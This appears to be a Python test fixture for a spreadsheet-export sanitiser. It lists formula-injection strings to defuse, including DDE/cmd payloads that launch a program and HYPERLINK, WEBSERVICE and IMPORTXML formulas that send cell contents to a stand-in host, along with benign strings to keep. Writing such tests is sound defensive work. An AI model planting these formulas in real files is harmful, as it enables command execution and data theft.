"""Text that spreadsheets have been known to run, after the lists of OWASP and of those who attack."""

# What an extract must defuse.
RUN = (
    "=1+1",
    '=1+1";=1+1',
    "+1",
    "-1",
    "-3",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!'A1'",
    '=HYPERLINK("http://example.org/?leak="&A1&A2,"Error: click here")',
    '=WEBSERVICE("http://example.org/?"&A1)',
    '=IMPORTXML(CONCAT("http://example.org/?v=", CONCATENATE(A1:A9)), "//a")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "+HYPERLINK(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1+1)",
    "=",
    "-",
)
# What it must leave as it is.
NOT_RUN = ("http://example.org/", "007", "1e5", "x=1", " 3", "−3", "3–5 dead", "'quoted'", "@\u200b"[1:] + "text")
